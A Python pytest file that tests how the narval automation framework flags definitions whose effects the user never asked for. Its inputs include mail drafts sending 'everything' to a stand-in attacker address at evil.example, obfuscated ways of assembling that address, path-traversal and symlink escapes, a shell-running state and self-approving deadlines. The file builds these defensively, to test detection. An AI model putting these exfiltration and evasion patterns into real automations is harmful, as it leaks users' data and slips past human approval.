"""Definitions judged before anybody accepts them: what they would do outside that nobody has named (D11)."""

from __future__ import annotations

from pathlib import Path

import pytest

from narval.ask.definitions.checking import HomeAsRead
from narval.ask.definitions.judging import TextsBeside
from narval.ask.definitions.written_places import written_in
from narval.files.home import Home

RECIPE = """\
<recipe group="mine" name="tell" start_step="tell" end_step="tell">
  <step id="tell" type="action" target="{target}"><arguments>{argument}</arguments></step>
</recipe>
"""
DRAFT = '<draft to="{}" subject="all">everything</draft>'
GET = '<request url="{}"/>'


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> HomeAsRead:
    place = tmp_path_factory.mktemp("home")
    for folder in ("etc", "data", "recipes"):
        (place / folder).mkdir()
    (place / "linked").symlink_to("/srv")
    (place / "etc/narval.toml").write_text('[services]\nbank = { url = "https://bank.example/api" }\n')
    (place / "data/memory.xml").write_text(
        '<memory><identity address="me@here.example"/><outbox path="out" kind="maildir"/></memory>'
    )
    return HomeAsRead.of(Home(place))


def unnamed(home: HomeAsRead, target: str, argument: str, wish: str) -> str:
    text = RECIPE.format(target=target, argument=argument)
    judgement = TextsBeside(home, {"a.xml": text}).judge(wish, seconds=0)
    assert judgement.is_sound, judgement.faults
    return "\n".join(judgement.unnamed)


@pytest.mark.parametrize(
    ("to", "wish", "is_named"),
    [
        ("eve@evil.example", "send my bills to the bank", False),
        ("eve&#64;evil.example", "send my bills to the bank", False),
        ("{concat('eve', '@', 'evil.example', $now)}", "send my bills to the bank", False),
        ("{$plan/@x}@evil.example", "send my bills to the bank", False),
        ("eve@{$plan/@x}", "send my bills to the bank", False),
        ("{translate('eve#evil.example', '#', $plan/@x)}", "send my bills to the bank", False),
        ("{concat($plan/@x, $plan/@y)}", "send my bills to the bank", False),
        ("{substring($plan/@x, 2)}", "send my bills to the bank", False),
        ("{if($plan/@x='[', translate('eve#evil.example', '#', $plan/@x), ']')}", "send my bills", False),
        ("{$plan[@a[not(@b)]]/@to}", "", True),
        ("{$plan[@name='x']/@y} {string-join($plan[@name='x']/@y, ' ')}", "", True),
        ("{$plan/@x} @evil.example", "send my bills to the bank", False),
        ("{string-join($plan/@x, '')}", "send my bills to the bank", False),
        ("{$plan/x/text()}", "", True),
        ("{if($plan/@reply-to, $plan/@reply-to, $plan/@from)}", "", True),
        ("eve@evil.example", "send my bills to Eve@Evil.example.", True),
        ("eve@evil.example", "send my bills to steve@evil.example", False),
        ("eve@evil.example", "send my bills to eve@evil.example.org", False),
        ("me@here.example", "send my bills to me", True),
    ],
)
def test_D11_an_address_is_named_by_the_wish_or_by_what_the_owner_has_written(
    home: HomeAsRead, to: str, wish: str, is_named: bool
) -> None:
    assert ("address" not in unnamed(home, "mail.write", DRAFT.format(to), wish)) is is_named


@pytest.mark.parametrize(
    ("url", "wish", "is_named"),
    [
        ("https://evil.example/x", "look at the price", False),
        ("https://evil.example/x", "look at https://evil.example/x each day", True),
        ("https://user@evil.example/x", "look at the bank", False),
        ("https://bank.example/api/x", "look at the bank", True),
    ],
)
def test_D11_a_host_is_named_too(home: HomeAsRead, url: str, wish: str, is_named: bool) -> None:
    assert ("evil.example" not in unnamed(home, "http.request", GET.format(url), wish)) is is_named


_ONE, _TWO = "<x:value-of select='email/@from'/>", "<x:value-of select='email/@host'/>"


@pytest.mark.parametrize(
    ("pieces", "is_made"),
    [
        ("eve<x:text>@</x:text>evil.example", True),
        ("<x:choose><x:when test='email'>eve<x:text>@</x:text>evil.example</x:when></x:choose>", True),
        (f"<x:if test='email'>{_ONE}{_TWO}</x:if>", True),
        ("<x:call-template name='t'/>", True),
        (_ONE, False),
    ],
)
def test_D11_an_address_that_a_stylesheet_puts_together_is_told(
    home: HomeAsRead, pieces: str, is_made: bool
) -> None:
    text = """<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"
      xmlns:n="http://www.logilab.org/namespaces/Narval/1.2" exclude-result-prefixes="n">
      <n:prototype group="mine" name="write"><n:input id="m"><n:match>email</n:match></n:input>
        <n:output id="d"><n:match>draft</n:match></n:output></n:prototype>
      <x:template match="/"><draft><x:attribute name="to">{}</x:attribute>
      </draft></x:template><x:template name="t">eve</x:template></x:stylesheet>"""
    judgement = TextsBeside(home, {"a.xsl": text.format(pieces)}).judge("tell the bank", seconds=0)
    assert any("makes addresses" in each for each in judgement.unnamed) is is_made, judgement


_LONG = 400_000
"""Characters that would take minutes if the effort grew with their square."""


@pytest.mark.parametrize(
    "value", ["a" * _LONG, "x://[" * (_LONG // 5), "{" + "[" * _LONG + "}", "{a" * (_LONG // 2)]
)
def test_D11_a_text_of_any_form_holds_up_nobody(value: str) -> None:
    assert "evil" not in str([*written_in({"a.xml": f'<draft to="{value}"/>'})])


def test_D9_what_the_home_has_already_is_not_replaced(home: HomeAsRead) -> None:
    memory = '<memory>\n<outbox path="out" kind="maildir"/><identity address="other@here.example"/></memory>'
    judgement = TextsBeside(home, {"memory.xml": memory}).judge()
    assert ["data/memory.xml has <outbox" in fault["message"] for fault in judgement.faults] == [True]


def test_D11_elements_alone_by_which_others_would_reach_further_are_told(tmp_path: Path) -> None:
    for folder in ("etc", "data", "recipes"):
        (tmp_path / folder).mkdir()
    (tmp_path / "recipes/mine.xml").write_text(RECIPE.format(target="mail.write", argument=DRAFT.format("a")))
    memory = '<memory><outbox host="evil.example" port="25" kind="smtp"/></memory>'
    judgement = TextsBeside(HomeAsRead.of(Home(tmp_path)), {"memory.xml": memory}).judge(
        "send by evil.example.org"
    )
    assert judgement.is_sound, judgement.faults
    (sentence,) = (one for one in judgement.unnamed if "would need" in one)
    assert "mine.tell" in sentence
    assert "host evil.example:25" in sentence


TAKING = """<recipe group="mine" name="pay" start_step="wait" end_step="wait">
  <step id="wait" type="action" target="basic.nothing"/><step id="pay" type="action" target="basic.nothing"/>
  <transition id="t"><in idref="wait"/><out idref="pay"/>
    <condition use="yes"><match>bill[@approved]</match></condition></transition>
</recipe>"""


@pytest.mark.parametrize(
    ("element", "sentence"),
    [
        ('<bill approved="yes"/>', 'Its element <bill approved="yes"/> is for mine.pay too'),
        ('<bill n="1"/>', ""),
        ('<start-plan recipe="mine.pay"/>', "It starts mine.pay, which is there already."),
        ('<supplier iban="DE666"/>', "With its elements $known.suppliers of etc/trust.toml has DE666 too."),
        ('<folder name="x" path="/etc"/>', "Its elements have the path /etc, which neither"),
        ('<note path="readme.txt"/>', ""),
    ],
)
def test_D11_what_elements_do_to_what_is_there_already_is_told(
    tmp_path: Path, element: str, sentence: str
) -> None:
    for folder in ("etc", "data", "recipes"):
        (tmp_path / folder).mkdir()
    (tmp_path / "recipes/pay.xml").write_text(TAKING)
    (tmp_path / "etc/trust.toml").write_text('[known]\nsuppliers = "supplier/@iban"\n')
    texts = {"memory.xml": f"<memory>{element}</memory>"}
    judgement = TextsBeside(HomeAsRead.of(Home(tmp_path)), texts).judge("pay my bills")
    assert judgement.is_sound, judgement.faults
    assert [one for one in judgement.unnamed if sentence and sentence in one] == judgement.unnamed


def test_D11_each_fact_is_one_line_the_gravest_first_and_none_hides_another(tmp_path: Path) -> None:
    for folder in ("etc", "data", "recipes"):
        (tmp_path / folder).mkdir()
    also = TAKING.replace('"pay"', '"note"', 1)
    (tmp_path / "recipes/pay.xml").write_text(f"<cookbook>{TAKING}{also}</cookbook>")
    program = '<automaton group="g" name="runs"><state name="start" command="sh">true</state></automaton>'
    memory = '<memory><bill approved="yes"/><note path="/etc"/></memory>'
    texts = {"a.automaton.xml": program, "memory.xml": memory}
    judgement = TextsBeside(HomeAsRead.of(Home(tmp_path)), texts).judge("pay", seconds=0)
    assert judgement.is_sound, judgement.faults
    first, *others = judgement.unnamed
    assert first.startswith("It runs the program sh,"), judgement.unnamed
    taken = 'Its element <bill approved="yes"/> is for mine.pay and mine.note too, which are there already.'
    assert others[-1] == taken, judgement.unnamed


@pytest.mark.parametrize(
    "element",
    [
        "<quit/>",
        '<decision outcome="approve" by="root" work="1"/>',
        '<acknowledged incident="1"/>',
        '<grant-request kind="recipe" name="a.b"/>',
    ],
)
def test_D11_what_narval_obeys_or_says_itself_cannot_be_proposed(home: HomeAsRead, element: str) -> None:
    judgement = TextsBeside(home, {"memory.xml": f"<memory>{element}</memory>"}).judge()
    (fault,) = (fault for fault in judgement.faults if not fault["warning"])
    assert "is an element that narval obeys" in fault["message"]


def test_a_change_of_a_file_keeps_what_others_name_of_it(tmp_path: Path) -> None:
    step = '<step id="w" type="{}" target="{}"/>'
    recipe = '<recipe group="mine" name="{}" start_step="w" end_step="w">{}</recipe>'
    one, two = (recipe.format(name, step.format("action", "basic.nothing")) for name in ("one", "two"))
    (tmp_path / "recipes/x").mkdir(parents=True)
    (tmp_path / "recipes/x/both.xml").write_text(f"<cookbook>{one}{two}</cookbook>")
    (tmp_path / "recipes/calls.xml").write_text(recipe.format("calls", step.format("recipe", "mine.two")))
    read = HomeAsRead.of(Home(tmp_path))
    changed = {"kind": "recipe", "name": "mine.one", "path": "recipes/x/both.xml"}
    (fault,) = TextsBeside(read, {"both.xml": one}, changed).judge(seconds=0).faults
    assert fault["message"] == (
        "expected recipe mine.two, for recipe mine.calls in recipes/calls.xml names it, found it nowhere"
    )
    both = {"both.xml": f"<cookbook>{two}{one}</cookbook>"}
    assert TextsBeside(read, both, changed).judge(seconds=0).is_sound


@pytest.mark.parametrize(
    ("argument", "fault"),
    [
        ('<text path="/srv/notes">a</text>', "expected a path inside the home, got '/srv/notes'"),
        ('<text path="~/notes">a</text>', "expected a path inside the home, got '~/notes'"),
        (
            '<text path="~nosuch/notes">a</text>',
            "got '~nosuch/notes': there is no such user",
        ),
        ('<text path="linked/notes">a</text>', "expected a path inside the home, got 'linked/notes'"),
        ('<text path="data/../../notes">a</text>', "expected a path inside the home"),
        (
            '<text path="/srv/a/notes" folder="/srv/b">a</text>',
            "expected a path inside the folder /srv/b",
        ),
        ('<text path="/srv/notes" folder="/srv">a</text>', ""),
        ('<text path="data/notes">a</text>', ""),
        ('<text path="{$now}">a</text>', ""),
        ('<text path="/srv/notes" folder="{$now}">a</text>', ""),
    ],
)
def test_D10_a_path_outside_of_what_a_call_reaches_is_a_fault(
    home: HomeAsRead, argument: str, fault: str
) -> None:
    judgement = TextsBeside(home, {"a.xml": RECIPE.format(target="files.append", argument=argument)}).judge()
    assert judgement.is_sound is not bool(fault)
    assert fault in "".join(one["message"] for one in judgement.faults)


def test_D10_a_place_that_no_file_names_is_a_warning(home: HomeAsRead) -> None:
    text = RECIPE.format(target="files.watch", argument="")
    judgement = TextsBeside(home, {"a.xml": text}).judge()
    (warning,) = judgement.faults
    why = "step tell: nothing in the home gives the folder that it takes: add <folder …/> to data/memory.xml"
    assert (warning["message"], warning["line"], warning["warning"]) == (why, 2, True)
    assert "It reaches the folder that elements name while it runs, which neither" in judgement.unnamed[0]
    memory = '<memory><folder path="data/in"/></memory>'
    assert not TextsBeside(home, {"a.xml": text, "memory.xml": memory}).judge().faults


@pytest.mark.parametrize(("outcome", "sentences"), [("approve", 1), ("reject", 0), ("", 0)])
def test_work_that_agrees_by_itself_is_told_first(home: HomeAsRead, outcome: str, sentences: int) -> None:
    agrees = f'outcome="{outcome}"' if outcome else ""
    text = RECIPE.format(target="mail.write", argument=DRAFT.format("eve@evil.example"))
    text = text.replace(' group="mine"', "").replace('"mail.write"', '"mail.write" approve="mine.yes"')
    work = f"""<work name="yes"><title>ok?</title><outcome name="approve"/><outcome name="reject"/>
      <deadline after="1s" {agrees}/></work>"""
    text = f'<cookbook group="mine">{work}{text}</cookbook>'
    judgement = TextsBeside(home, {"a.xml": text}).judge(seconds=0)
    said = (
        "step 'tell' of mine.tell is done although no person agreed: "
        "the work mine.yes answers yes by itself if no person has answered in time."
    )
    assert judgement.unnamed.count(said) == sentences, judgement.unnamed
    assert not sentences or judgement.unnamed[0] == said
    told = " ".join(str(one["text"]) for one in judgement.sentences)
    assert ("asked to agree by the work mine.yes, which answers yes by itself" in told) is bool(sentences)
